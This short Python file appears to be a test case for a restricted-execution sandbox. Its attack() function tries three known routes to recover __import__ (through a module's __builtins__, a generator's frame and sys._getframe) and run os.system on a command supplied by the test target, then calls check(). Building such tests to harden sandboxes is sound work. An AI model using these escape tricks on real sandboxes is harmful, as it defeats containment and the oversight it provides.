import hashlib
import sys

from target import COMMAND, check


def attack():
    hashlib.__builtins__["__import__"]("os").system(COMMAND)
    (lambda: (yield))().gi_frame.f_builtins["__import__"]("os").system(COMMAND)
    sys._getframe().f_builtins["__import__"]("os").system(COMMAND)
    return check()
